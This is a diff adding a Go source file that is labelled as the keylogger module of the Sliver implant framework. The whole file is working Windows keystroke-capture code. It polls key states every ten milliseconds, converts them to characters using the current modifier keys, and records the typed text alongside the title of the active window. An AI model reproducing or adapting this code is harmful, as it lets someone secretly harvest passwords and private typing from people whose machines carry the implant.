@@ -0,0 +1,127 @@
+package keylogger
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"time"
+
+	"github.com/bishopfox/sliver/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	pollInterval = 10 * time.Millisecond
+
+	vkShift   = 0x10
+	vkControl = 0x11
+	vkMenu    = 0x12
+	vkCapital = 0x14
+
+	mapvkVkToVsc = 0
+)
+
+var (
+	// Keys without a printable representation
+	specialKeys = map[int32]string{
+		0x08: "[BS]",
+		0x09: "\t",
+		0x0D: "\n",
+		0x1B: "[ESC]",
+		0x21: "[PGUP]",
+		0x22: "[PGDN]",
+		0x23: "[END]",
+		0x24: "[HOME]",
+		0x25: "[LEFT]",
+		0x26: "[UP]",
+		0x27: "[RIGHT]",
+		0x28: "[DOWN]",
+		0x2E: "[DEL]",
+	}
+
+	// Modifier keys are reflected in the keyboard state instead of logged
+	modifierKeys = map[int32]bool{
+		vkShift: true, vkControl: true, vkMenu: true, vkCapital: true,
+		0xA0: true, 0xA1: true, 0xA2: true, 0xA3: true, 0xA4: true, 0xA5: true,
+		0x5B: true, 0x5C: true,
+	}
+)
+
+func startCapture(stop chan bool) error {
+	go captureLoop(stop)
+	return nil
+}
+
+// captureLoop - Poll the async key state, this does not require a message
+// loop or a hook DLL and works from any thread
+func captureLoop(stop chan bool) {
+	pressed := make([]bool, 256)
+	for {
+		select {
+		case <-stop:
+			return
+		case <-time.After(pollInterval):
+		}
+		keys := ""
+		for vk := int32(0x08); vk < 0xFF; vk++ {
+			isDown := uint16(syscalls.GetAsyncKeyState(vk))&0x8000 != 0
+			if isDown && !pressed[vk] && !modifierKeys[vk] {
+				keys += translate(vk)
+			}
+			pressed[vk] = isDown
+		}
+		if keys != "" {
+			keylog.record(foregroundWindowTitle(), keys)
+		}
+	}
+}
+
+func translate(vk int32) string {
+	if key, ok := specialKeys[vk]; ok {
+		return key
+	}
+	keyState := make([]byte, 256)
+	for _, modifier := range []int32{vkShift, vkControl, vkMenu} {
+		if uint16(syscalls.GetAsyncKeyState(modifier))&0x8000 != 0 {
+			keyState[modifier] = 0x80
+		}
+	}
+	if syscalls.GetKeyState(vkCapital)&1 != 0 {
+		keyState[vkCapital] = 0x01
+	}
+	if keyState[vkControl] != 0 && keyState[vkMenu] == 0 {
+		return "" // Control sequences are not interesting
+	}
+	scanCode := syscalls.MapVirtualKey(uint32(vk), mapvkVkToVsc)
+	buf := make([]uint16, 8)
+	n := syscalls.ToUnicode(uint32(vk), scanCode, &keyState[0], &buf[0], int32(len(buf)), 0)
+	if n <= 0 {
+		return ""
+	}
+	return windows.UTF16ToString(buf[:n])
+}
+
+func foregroundWindowTitle() string {
+	hwnd := syscalls.GetForegroundWindow()
+	if hwnd == 0 {
+		return ""
+	}
+	buf := make([]uint16, 256)
+	n := syscalls.GetWindowText(hwnd, &buf[0], int32(len(buf)))
+	return windows.UTF16ToString(buf[:n])
+}